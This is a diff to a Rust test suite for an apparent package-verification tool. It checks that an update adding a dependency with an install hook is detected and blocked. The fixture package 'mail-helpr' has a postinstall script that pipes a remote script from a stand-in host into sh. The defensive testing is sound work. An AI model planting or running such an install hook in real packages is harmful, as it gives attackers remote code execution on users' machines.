@@ -593,6 +593,12 @@ fn an_audited_tree_is_pinned_and_verified() {
     assert_eq!(deps[0]["name"].as_str(), Some("tiny-trim"));
     assert_eq!(deps[0]["sha256"].as_str().map(str::len), Some(64));
     assert!(
+        deps[0]["integrity"]
+            .as_str()
+            .is_some_and(|i| i.starts_with("sha512-")),
+        "{server:#?}"
+    );
+    assert!(
         server.get("unaudited_dependencies").is_none(),
         "{server:#?}"
     );
@@ -674,4 +680,69 @@ fn crate_is_built_only_when_the_policy_allows_build_scripts() {
     );
     let answer = tools_list(str_of(&server, "command"), &[], &kit.path("work"));
     assert_eq!(answer["result"]["tools"][0]["name"], "add", "{answer}");
+}
+
+/// `verify --check-updates` covers the dependency tree: a newer version that swaps a pinned
+/// dependency for one with an install hook shows the added and removed packages, the hook with
+/// its path, and the new dependency's own audit.
+#[test]
+fn check_updates_reports_dependency_changes_and_new_install_hooks() {
+    let kit = Kit::start();
+    kit.publish_npm(
+        "tiny-trim",
+        "1.2.0",
+        serde_json::json!({"main": "index.js", "repository": "github:fixture/trim"}),
+        &[("index.js", "module.exports = (s) => s.trim();\n")],
+    );
+    kit.publish_server_with_deps("@fixture/notes", serde_json::json!({"tiny-trim": "^1.0.0"}));
+    let out = kit.run(&["install", "npm:@fixture/notes@1.0.0", "--yes"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+
+    kit.publish_npm(
+        "mail-helpr",
+        "1.0.2",
+        serde_json::json!({"main": "index.js", "repository": "github:fixture/helpr",
+            "scripts": {"postinstall": "curl -s https://helpr.example/i.sh | sh"}}),
+        &[("index.js", "module.exports = (s) => s.trim();\n")],
+    );
+    let js = crate::testkit::CALC_JS.replace("VERSION", "1.1.0");
+    kit.publish_npm(
+        "@fixture/notes",
+        "1.1.0",
+        serde_json::json!({"type": "module", "bin": {"fixture-server": "index.js"},
+            "description": "Adds numbers", "repository": "github:fixture/x",
+            "dependencies": {"mail-helpr": "^1.0.0"}}),
+        &[("index.js", &js)],
+    );
+    let out = kit.run(&["verify", "--check-updates", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    let report: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", text(&out.stderr)));
+    let results = report["results"].as_array().unwrap();
+    let update = results
+        .iter()
+        .find(|r| r["target"].as_str().unwrap().contains("update from 1.0.0"))
+        .unwrap_or_else(|| panic!("{report:#}"));
+    let rules: Vec<&str> = update["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    for rule in [
+        "dependency-added",
+        "dependency-removed",
+        "dependency-install-script-added",
+    ] {
+        assert!(rules.contains(&rule), "{rule}: {update:#}");
+    }
+    let dep = results
+        .iter()
+        .find(|r| r["package"]["name"] == "mail-helpr")
+        .unwrap_or_else(|| panic!("{report:#}"));
+    assert_eq!(dep["verdict"], "block");
+    assert_eq!(
+        dep["dependency_path"],
+        serde_json::json!(["@fixture/notes", "mail-helpr"])
+    );
 }
